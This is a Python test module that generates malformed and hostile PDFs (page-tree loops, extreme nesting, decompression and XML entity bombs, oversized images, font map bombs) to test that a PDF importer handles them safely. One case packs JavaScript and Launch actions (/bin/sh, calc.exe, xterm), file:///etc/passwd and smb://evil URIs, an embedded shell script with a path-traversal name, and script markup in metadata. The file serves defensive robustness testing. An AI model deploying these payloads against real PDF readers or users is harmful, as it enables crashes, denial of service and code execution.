# SPDX-FileCopyrightText: The Conspectus authors
# SPDX-License-Identifier: GPL-3.0-or-later
"""PDFs that lie about their pages, loop, nest without end, or carry what must never run.

cases() gives (name, outcome, bytes). The outcome is what an import may answer: "words" (opened, with the text of its
first page), "opened" (opened, whatever its text), or the codes with which it may be refused, parted by "|".
"""
import random

from pdfparts import (FONT, WORDS, build, many_pages, one_page, packed, stream, tree, utf16, with_image)

NOISE = random.Random(4).randbytes(5000)


def page_trees():
    deep = {1: b"<</Type/Catalog/Pages 2 0 R>>"}
    for i in range(20000):
        deep[2 + i] = b"<</Type/Pages/Kids[%d 0 R]/Count 1%s>>" % (3 + i, b"/Parent %d 0 R" % (1 + i) if i else b"")
    deep[20002] = b"<</Type/Page/Parent 20001 0 R/MediaBox[0 0 612 792]>>"
    pages = b"<</Type/Pages/Kids[%s]/Count %s>>"
    yield "tree-deep", "opened|damaged|no-pages", build(deep)
    yield "tree-loop", "opened|no-pages|damaged", tree({2: pages % (b"3 0 R", b"5"),
                                                        3: b"<</Type/Pages/Parent 2 0 R/Kids[2 0 R 3 0 R]/Count 5>>"})
    yield "tree-own-kid", "opened", tree({2: pages % (b"2 0 R 2 0 R 3 0 R", b"3")})
    yield "tree-count-huge", "words|no-pages|damaged", tree({2: pages % (b"3 0 R", b"2147483647")})
    yield "tree-count-negative", "words|no-pages|damaged", tree({2: pages % (b"3 0 R", b"-5")})
    yield "tree-count-missing", "words|no-pages|damaged", tree({2: b"<</Type/Pages/Kids[3 0 R]>>"})
    yield "tree-count-zero", "words|no-pages|damaged", tree({2: pages % (b"3 0 R", b"0")})
    yield "tree-null-kids", "words", tree({2: pages % (b"3 0 R null 99 0 R 3 0 R", b"4")})
    yield "tree-kids-of-all-kinds", "words|no-pages", tree({2: pages % (b"3 0 R (a) /b 7 [3 0 R] <<>> 4 0 R", b"7")})
    yield "tree-kids-no-array", "opened|no-pages|damaged", tree({2: b"<</Type/Pages/Kids 3 0 R/Count 1>>"})
    yield "tree-page-without-type", "words|no-pages|damaged", tree({3: b"<</Parent 2 0 R/MediaBox[0 0 612 792]/Contents 4 0 R"
                                                                       b"/Resources<</Font<</F1 5 0 R>>>>>>"})
    yield "tree-empty", "no-pages", tree({2: pages % (b"", b"0")})
    yield "tree-root-is-page", "words|no-pages|damaged", tree({1: b"<</Type/Catalog/Pages 3 0 R>>"})
    yield "tree-no-catalog", "damaged|no-pages", tree({1: b"null"})
    yield "pages-20000", "words", many_pages(20000)
    yield "pages-of-many-sizes", "opened", many_pages(300, lambda i: b"/MediaBox[0 0 %d %d]/Rotate %d" % (
        i * 7 % 900 + 50, i * 13 % 1500 + 50, i % 4 * 90))


def boxes():
    for name, outcome, box in [
            ("huge", "opened", b"[0 0 1000000000 1000000000]"), ("no-numbers", "opened", b"[nan inf 1e400 -1e400]"),
            ("inverted", "words", b"[612 792 0 0]"), ("tiny", "opened", b"[0 0 .0000001 .0000001]"),
            ("of-names", "words", b"[(a) /b null <<>>]"), ("zero", "opened", b"[0 0 0 0]"), ("line", "opened", b"[0 0 612 0]"),
            ("far-off", "opened", b"[1000000 1000000 1000612 1000792]"), ("negative", "opened", b"[-900 -900 -288 -108]"),
            ("short", "words", b"[0 0]"), ("none", "words", b" null"), ("of-itself", "words", b" 3 0 R"),
            ("200-inches", "words", b"[0 0 14400 14400]"), ("one-point", "opened", b"[0 0 1 1]")]:
        yield "box-" + name, outcome, one_page(box=box)
    yield "box-crop-outside", "opened", one_page(page=b"/CropBox[5000 5000 6000 6000]")
    yield "box-crop-empty", "opened", one_page(page=b"/CropBox[10 10 10 10]")
    yield "box-unit-huge", "opened", one_page(page=b"/UserUnit 1e9")
    for turn in (b"45", b"-90", b"450", b"9999999999999", b"/x", b"90.5"):
        yield "rotate-" + turn.decode().strip("/"), "words", one_page(page=b"/Rotate " + turn)


def outlines_and_names():
    item = b"<</Title(Item %d)/Parent 9 0 R%s/Dest[3 0 R/Fit]>>"
    count = 20000
    long = {10 + i: item % (i, b"/Next %d 0 R" % (11 + i) if i < count - 1 else b"") for i in range(count)}
    deep = {10 + i: b"<</Title(Deep %d)/First %d 0 R/Last %d 0 R/Dest[3 0 R/Fit]>>" % (i, 11 + i, 11 + i) for i in range(count)}
    nine = b"<</First 10 0 R/Last 10 0 R/Count 1>>"

    def outline(more):
        return one_page(catalog=b"/Outlines 9 0 R", more={9: nine} | more)
    yield "outline-long", "words", outline(long)
    yield "outline-deep", "words", outline(deep)
    yield "outline-next-itself", "words", outline({10: b"<</Title(A)/Next 10 0 R>>"})
    yield "outline-ring", "words", outline({9: b"<</First 10 0 R/Last 11 0 R>>", 10: b"<</Title(A)/Next 11 0 R/First 11 0 R>>",
                                            11: b"<</Title(B)/Next 10 0 R/First 9 0 R>>"})
    yield "outline-odd-titles", "words", outline({
        10: b"<</Title null/Next 11 0 R>>", 11: b"<</Title[1 2]/Next 12 0 R/Dest 3>>", 12: b"<</Title(%s)/Next 13 0 R>>" % (b"x" * 300000),
        13: b"<</Title %s/Dest[99 0 R/XYZ nan null 1e99]/Next 14 0 R>>" % utf16("\u202eevil\u0000\u0007\ud800"), 14: b"<<>>"})
    yield "names-ring", "words", one_page(catalog=b"/Names<</Dests 9 0 R>>", more={9: b"<</Kids[9 0 R 9 0 R]/Limits[(a)(z)]>>"},
                                          page=b"/Annots[<</Subtype/Link/Rect[0 0 99 99]/Dest(foo)>>]")
    yield "dest-ring", "words", one_page(catalog=b"/Dests 9 0 R", more={9: b"<</a 10 0 R>>", 10: b"<</D 10 0 R>>"},
                                         page=b"/Annots[<</Subtype/Link/Rect[0 0 99 99]/Dest/a>>]")
    for name, label in [("roman-huge", b"0<</S/r/St 2147483647>>"), ("letters-huge", b"0<</S/A/St 2000000000>>"),
                        ("negative", b"-7<</S/D/St -3>>"), ("long", b"0<</P(%s)>>" % (b"x" * 100000)), ("odd", b"null(a)<<>>[")]:
        yield "labels-" + name, "words", one_page(catalog=b"/PageLabels<</Nums[%s]>>" % label)
    yield "labels-ring", "words", one_page(catalog=b"/PageLabels 9 0 R", more={9: b"<</Kids[9 0 R 9 0 R]>>"})
    yield "structure-ring", "words", one_page(catalog=b"/StructTreeRoot 9 0 R/MarkInfo<</Marked true>>",
                                              more={9: b"<</Type/StructTreeRoot/K[9 0 R 10 0 R]>>", 10: b"<</S/P/P 9 0 R/K[10 0 R 10 0 R]>>"})
    yield "layers-ring", "words", one_page(catalog=b"/OCProperties<</OCGs[9 0 R 9 0 R]/D<</Order[9 0 R 10 0 R]/ON[9 0 R]>>>>",
                                           more={9: b"<</Type/OCG/Name(a)>>", 10: b"[10 0 R 9 0 R]"})


def nesting():
    yield "deep-arrays", "words|damaged", one_page(catalog=b"/Foo " + b"[" * 200000 + b"]" * 200000)
    yield "deep-dictionaries", "words|damaged", one_page(catalog=b"/Foo " + b"<</a" * 100000 + b">>" * 100000)
    yield "deep-info", "words|damaged", one_page(trailer=b"/Info " + b"[" * 60000 + b"]" * 60000)
    yield "deep-states", "opened", one_page(content=b"q " * 1000000 + WORDS)
    yield "deep-marks", "opened", one_page(content=b"/P BMC " * 300000 + WORDS)
    yield "reference-ring", "words|damaged|no-pages", one_page(catalog=b"/Foo 9 0 R", more={9: b"10 0 R", 10: b"9 0 R"})
    yield "content-50000-times", "opened", one_page().replace(b"/Contents 4 0 R", b"/Contents[" + b"4 0 R " * 50000 + b"]")
    yield "content-ring", "opened", one_page(body=b"[4 0 R 4 0 R]")
    forms = {9 + i: stream(b"/X Do " * 10 + b"0 0 1 1 re f", b"/Type/XObject/Subtype/Form/BBox[0 0 600 700]/Resources<</XObject<</X %d 0 R>>>>"
                           % (10 + i if i < 29 else 9)) for i in range(30)}
    yield "form-of-itself", "words", one_page(content=b"/X Do " + WORDS, resources=b"/XObject<</X 9 0 R>>", more={
        9: stream(b"/X Do /X Do", b"/Type/XObject/Subtype/Form/BBox[0 0 600 700]/Resources<</XObject<</X 9 0 R>>>>")})
    yield "form-ten-to-the-thirty", "opened", one_page(content=b"/X Do " + WORDS, resources=b"/XObject<</X 9 0 R>>", more=forms)
    yield "pattern-tiny", "words", one_page(content=b"/Pattern cs /P scn 0 0 612 792 re f " + WORDS, resources=b"/Pattern<</P 9 0 R>>", more={
        9: stream(b"0 0 1 1 re f", b"/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 1 1]/XStep .00001/YStep .00001/Resources<<>>")})
    yield "pattern-of-itself", "words", one_page(content=b"/Pattern cs /P scn 0 0 612 792 re f " + WORDS, resources=b"/Pattern<</P 9 0 R>>", more={
        9: stream(b"/Pattern cs /P scn 0 0 9 9 re f", b"/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 9 9]/XStep 9/YStep 9"
                                                      b"/Resources<</Pattern<</P 9 0 R>>>>")})
    yield "colour-of-itself", "words", one_page(content=b"/C cs 1 sc 0 0 9 9 re f " + WORDS, resources=b"/ColorSpace<</C 9 0 R>>",
                                                more={9: b"[/Separation/x 9 0 R 10 0 R]", 10: b"<</FunctionType 3/Functions[10 0 R]/Domain[0 1]/Bounds[]/Encode[0 1]>>"})
    yield "function-huge", "words", one_page(content=b"/S sh " + WORDS, resources=b"/Shading<</S<</ShadingType 1/ColorSpace/DeviceRGB/Function 9 0 R>>>>",
                                             more={9: stream(b"x", b"/FunctionType 0/Domain[0 1 0 1]/Range[0 1 0 1 0 1]/Size[60000 60000]/BitsPerSample 32")})
    yield "soft-mask-of-itself", "words", one_page(content=b"/G gs " + WORDS, resources=b"/ExtGState<</G 9 0 R>>", more={
        9: b"<</SMask<</S/Alpha/G 10 0 R>>>>", 10: stream(b"/G gs 0 0 9 9 re f", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Group<</S/Transparency>>"
                                                                              b"/Resources<</ExtGState<</G 9 0 R>>>>")})


def bombs():
    yield "bomb-content", "opened", one_page(body=packed(b"0 0 m 1 1 l S\n" * 20_000_000))
    yield "bomb-text", "opened", one_page(body=packed(b"BT /F1 1 Tf 1 0 0 1 9 9 Tm" + b"(aaaaaaaaaa bbbbb) Tj " * 3_000_000 + b"ET"))
    yield "bomb-object-stream", "words", one_page(catalog=b"/Foo 9 0 R", more={
        9: packed(b" ".join(b"%d %d" % (20 + i, i * 3) for i in range(1000)) + b" " + b"1 " * 50_000_000, b"/Type/ObjStm/N 1000/First 9000")})
    yield "bomb-image", "opened", one_page(content=b"q 600 0 0 700 0 0 cm /I Do Q " + WORDS, resources=b"/XObject<</I 9 0 R>>", more={
        9: packed(b"\x80" * 50_000_000, b"/Type/XObject/Subtype/Image/Width 40000/Height 40000/BitsPerComponent 8/ColorSpace/DeviceRGB")})
    jp2 = (b"\0\0\0\x0cjP  \r\n\x87\n\0\0\0\x14ftypjp2 \0\0\0\0jp2 \0\0\0\x2djp2h\0\0\0\x16ihdr\0\0\xff\xff\0\0\xff\xff\0\x03\x07\x07\0\0"
           b"\0\0\0\x0fcolr\1\0\0\0\0\0\x10\0\0\0\0jp2c\xff\x4f\xff\x51\0\x2f\0\0\0\0\xff\xff\0\0\xff\xff\0\0\0\0\0\0\0\0\0\0\xff\xff\0\0\xff\xff"
           b"\0\0\0\0\0\0\0\0\0\3\7\1\1\7\1\1\7\1\1")
    yield "image-jpx-4-gigapixels", "opened", with_image(b"/Width 65535/Height 65535/Filter/JPXDecode", jp2 + NOISE)
    yield "image-jpx-noise", "words", with_image(b"/Width 5000/Height 5000/Filter/JPXDecode", jp2[:12] + NOISE)
    jbig2 = b"\0\0\0\0\x30\0\1\0\0\0\x13\xff\xff\xff\xf0\x7f\xff\xff\xf0\0\0\0\0\0\0\0\0\1\0\0"
    yield "image-jbig2-huge", "opened", with_image(b"/Width 5000/Height 5000/BitsPerComponent 1/ColorSpace/DeviceGray/Filter/JBIG2Decode", jbig2 + NOISE)
    yield "image-jpeg-noise", "words", with_image(b"/Width 60000/Height 60000/BitsPerComponent 8/ColorSpace/DeviceRGB/Filter/DCTDecode", b"\xff\xd8\xff\xe0" + NOISE)
    yield "image-fax-noise", "words", with_image(b"/Width 30000/Height 30000/BitsPerComponent 1/ColorSpace/DeviceGray/Filter/CCITTFaxDecode"
                                                 b"/DecodeParms<</K -1/Columns 30000>>", NOISE)
    yield "image-filters-30", "words", with_image(b"/Width 9/Height 9/BitsPerComponent 8/ColorSpace/DeviceGray/Filter[" + b"/FlateDecode" * 30 + b"]", NOISE)
    yield "image-palette-lie", "words", with_image(b"/Width 99/Height 99/BitsPerComponent 8/ColorSpace[/Indexed/DeviceRGB 255(a)]", NOISE)
    yield "inline-image-open", "opened", one_page(content=WORDS + b" BI /W 9999 /H 9999 /BPC 8 /CS /RGB ID " + NOISE)
    scan = packed(b"\xaa" * (2480 // 8 * 3508), b"/Type/XObject/Subtype/Image/Width 2480/Height 3508/BitsPerComponent 1/ColorSpace/DeviceGray")
    yield "scan-1-bit", "opened", one_page(content=b"q 612 0 0 792 0 0 cm /I Do Q", resources=b"/XObject<</I 9 0 R>>", more={9: scan})
    entity = b"<!DOCTYPE x [<!ENTITY a 'ha'>" + b"".join(b"<!ENTITY %c '%s'>" % (98 + i, b"&%c;" % (97 + i) * 10) for i in range(20)) + b"]><x>&u;</x>"
    yield "bomb-metadata", "words", one_page(catalog=b"/Metadata 9 0 R", more={9: stream(entity, b"/Type/Metadata/Subtype/XML")})


def fonts():
    def font(body, more=None):
        return one_page(more={5: body} | (more or {}))
    yield "font-missing", "opened", font(b"<</Type/Font/Subtype/TrueType/BaseFont/NoSuchFontAtAll/FirstChar 32/LastChar 33/Widths[0 nan]>>")
    yield "font-null", "opened", font(b"null")
    yield "font-noise", "words", font(b"<</Type/Font/Subtype/TrueType/BaseFont/Foo/FontDescriptor 9 0 R>>",
                                       {9: b"<</Type/FontDescriptor/FontName/Foo/Flags 4/FontFile2 10 0 R>>", 10: stream(NOISE)})
    yield "font-cjk-not-embedded", "opened", font(b"<</Type/Font/Subtype/Type0/BaseFont/HeiseiMin-W3/Encoding/90ms-RKSJ-H/DescendantFonts[9 0 R]>>", {
        9: b"<</Type/Font/Subtype/CIDFontType0/BaseFont/HeiseiMin-W3/CIDSystemInfo<</Registry(Adobe)/Ordering(Japan1)/Supplement 2>>>>"})
    yield "font-of-itself", "opened", font(b"<</Type/Font/Subtype/Type0/BaseFont/A/Encoding/Identity-H/DescendantFonts[5 0 R]/ToUnicode 5 0 R>>")
    text = b"/CIDInit/ProcSet findresource begin begincmap 1 begincodespacerange <00> <ff> endcodespacerange "
    bomb = text + b"".join(b"1 beginbfchar <%02x> <%s> endbfchar " % (c, b"00410042" * 20000) for c in range(32, 127)) + b"endcmap end"
    yield "font-unicode-bomb", "opened", font(FONT[:-2] + b"/ToUnicode 9 0 R>>", {9: packed(bomb)})
    wide = text + b"1 beginbfrange <00000000> <ffffffff> <0000> endbfrange 1 begincidrange <00000000> <ffffffff> 0 endcidrange endcmap"
    yield "font-map-of-all-codes", "opened", font(b"<</Type/Font/Subtype/Type0/BaseFont/A/Encoding 9 0 R/DescendantFonts[10 0 R]/ToUnicode 9 0 R>>", {
        9: stream(wide, b"/Type/CMap/CMapName/X/UseCMap 9 0 R"), 10: b"<</Subtype/CIDFontType2/BaseFont/A/CIDSystemInfo<</Registry(A)/Ordering(B)/Supplement 0>>/W[0 2147483647 5]>>"})
    drawn = (b"<</Type/Font/Subtype/Type3/FontBBox[0 0 1000 1000]/FontMatrix[%s]/CharProcs<</a 10 0 R>>/Encoding<</Differences[97/a]>>"
             b"/FirstChar 97/LastChar 97/Widths[1000]/Resources<</Font<</T 9 0 R>>>>>>")
    for name, matrix in (("of-itself", b".001 0 0 .001 0 0"), ("flat", b"0 0 0 0 0 0"), ("infinite", b"1e30 0 0 1e30 0 0")):
        yield "font-drawn-" + name, "opened", one_page(content=b"BT /T 20 Tf 72 500 Td (aaaa) Tj ET " + WORDS, fonts=b"/F1 5 0 R/T 9 0 R", more={
            9: drawn % matrix, 10: stream(b"1000 0 d0 BT /T 500 Tf (aaaaaaaa) Tj ET")})
    yield "text-of-odd-sizes", "opened", one_page(content=b"BT /F1 1e30 Tf 72 700 Td (Huge) Tj /F1 -5 Tf (neg) Tj /F1 1e-30 Tf (tiny) Tj ET " + WORDS)
    yield "text-far-away", "opened", one_page(content=b"1e38 0 0 1e38 1e38 1e38 cm 0 0 1 1 re f " + WORDS)
    yield "text-on-one-place", "opened", one_page(content=b"BT /F1 12 Tf " + b"1 0 0 1 72 500 Tm (word) Tj " * 30000 + b"ET")
    yield "text-250000-words", "opened", one_page(content=b"BT /F1 12 Tf " + b"".join(b"1 0 0 1 %d %d Tm (word%d) Tj " % (i % 600, i * 7 % 790, i) for i in range(250000)) + b"ET")
    yield "text-one-long-word", "opened", one_page(content=b"BT /F1 1 Tf 1 500 Td (" + b"a" * 3000000 + b") Tj ET")
    yield "text-said-otherwise", "opened", one_page(content=b"/Span<</ActualText(" + b"x" * 1000000 + b")>> BDC " + WORDS + b" EMC")
    yield "dash-fine", "words", one_page(content=b"[.00001 .00001] 0 d 1 w 0 0 m 612 792 l S " * 50 + WORDS)


def annotations_and_actions():
    link = b"<</Type/Annot/Subtype/Link/Rect[%d %d %d %d]/Border[0 0 0]/A<</S/URI/URI(http://x.example/%d)>>>>"
    many = b"".join(link % (i % 600, i % 790, i % 600 + 5, i % 790 + 5, i) for i in range(100000))
    yield "links-100000-in-the-page", "opened", one_page(page=b"/Annots[" + many + b"]")
    apart = {10 + i: link % (i % 600, i % 790, i % 600 + 5, i % 790 + 5, i) for i in range(20000)}
    yield "links-20000", "opened", one_page(page=b"/Annots[" + b" ".join(b"%d 0 R" % n for n in apart) + b"]", more=apart)
    marks = {10 + i: b"<</Type/Annot/Subtype/Highlight/Rect[72 %d 300 %d]/QuadPoints[72 712 300 712 72 700 300 700]/Contents(note %d)"
                     b"/Popup %d 0 R/C[1 1 0]>>" % (i % 700, i % 700 + 12, i, 10 + (i + 1) % 5000) for i in range(5000)}
    yield "marks-5000", "words", one_page(page=b"/Annots[" + b" ".join(b"%d 0 R" % n for n in marks) + b"]", more=marks)
    yield "annotations-of-themselves", "words", one_page(page=b"/Annots 9 0 R", more={9: b"[9 0 R 10 0 R 3 0 R 4 0 R null 7]",
                                                                                      10: b"<</Subtype/Text/Rect[0 0 9 9]/Parent 10 0 R/IRT 10 0 R/Popup 10 0 R>>"})
    yield "link-places-odd", "words", one_page(page=b"/Annots[<</Subtype/Link/Rect[nan 1e99 -1e99 0]/QuadPoints[1 2 3]/A 3 0 R>>"
                                                    b"<</Subtype/Link/Rect null/Dest[99999 /XYZ 0 0 0]>><</Subtype/Link/Rect[0 0 9 9]/Dest[-1 /Fit]>>]")
    field = b"<</T(f)/FT/Tx/Kids[10 0 R 11 0 R]/Parent 10 0 R/V(x)/Subtype/Widget/Rect[0 0 9 9]>>"
    yield "form-fields-ring", "words", one_page(catalog=b"/AcroForm<</Fields[10 0 R 11 0 R]/CO[10 0 R]/NeedAppearances true>>",
                                                page=b"/Annots[10 0 R 11 0 R]", more={10: field, 11: field})
    actions = [b"/S/JavaScript/JS(app.alert\\(1\\);this.submitForm\\(\"http://x\"\\))", b"/S/Launch/F(/bin/sh)/Win<</F(calc.exe)>>",
               b"/S/GoToR/F(../../etc/passwd)/D[0/Fit]", b"/S/URI/URI(file:///etc/passwd)", b"/S/URI/URI(javascript:alert\\(1\\))",
               b"/S/SubmitForm/F(http://x.example/)", b"/S/ImportData/F(/etc/passwd)", b"/S/Rendition/OP 0", b"/S/GoToE/F(x.pdf)",
               b"/S/Named/N/Print", b"/S/URI/URI(smb://evil/share)", b"/S/URI/Next 12 0 R/URI(http://a)"]
    links = b"".join(b"<</Type/Annot/Subtype/Link/Rect[72 %d 300 %d]/A<<%s>>>>" % (100 + 40 * i, 130 + 40 * i, a) for i, a in enumerate(actions))
    script = b"<</S/JavaScript/JS(app.alert\\(3\\))>>"
    yield "actions", "words", one_page(
        page=b"/Annots[" + links + b"<</Subtype/Screen/Rect[0 0 9 9]/A<</S/Rendition>>>><</Subtype/Movie/Rect[0 0 9 9]>>]/AA<</O" + script + b">>",
        catalog=b"/OpenAction<</S/Launch/F(/usr/bin/xterm)>>/AA<</WC" + script + b">>/Names<</JavaScript<</Names[(a)" + script +
                b"]>>/EmbeddedFiles<</Names[(..\\/..\\/evil.sh)<</Type/Filespec/F(../../../tmp/evil.sh)/EF<</F 9 0 R>>>>]>>>>"
                b"/AcroForm<</Fields[10 0 R]/XFA(<xdp/>)>>",
        more={9: stream(b"#!/bin/sh\ntouch /tmp/harmed\n", b"/Type/EmbeddedFile"), 12: b"<</S/URI/URI(http://b)/Next 12 0 R>>",
              10: b"<</Type/Annot/Subtype/Widget/FT/Tx/T(x)/V(1)/Rect[0 0 10 10]/AA<</K" + script + b">>>>"})


def metadata():
    bidi = utf16("Safe\u202efdp.exe\u0007\u0000\u200b\u2066name" * 3)
    yield "title-of-marks", "words", one_page(trailer=b"/Info<</Title %s/Author %s>>" % (bidi, bidi))
    yield "title-1-mb", "words", one_page(trailer=b"/Info<</Title(%s)/Author(%s)>>" % (b"Very long title " * 65536, b"A" * 1000000))
    yield "title-no-string", "words", one_page(trailer=b"/Info<</Title[1 2]/Author<<>>/CreationDate 7>>")
    yield "title-of-itself", "words|damaged", one_page(trailer=b"/Info 9 0 R", more={9: b"<</Title 9 0 R/Author 10 0 R>>", 10: b"10 0 R"})
    yield "title-markup", "words", one_page(trailer=b"/Info<</Title(<img src='file:///etc/passwd'><b>A Survey</b>)/Author(<script>)>>")


def cases():
    for group in (page_trees, boxes, outlines_and_names, nesting, bombs, fonts, annotations_and_actions, metadata):
        yield from group()
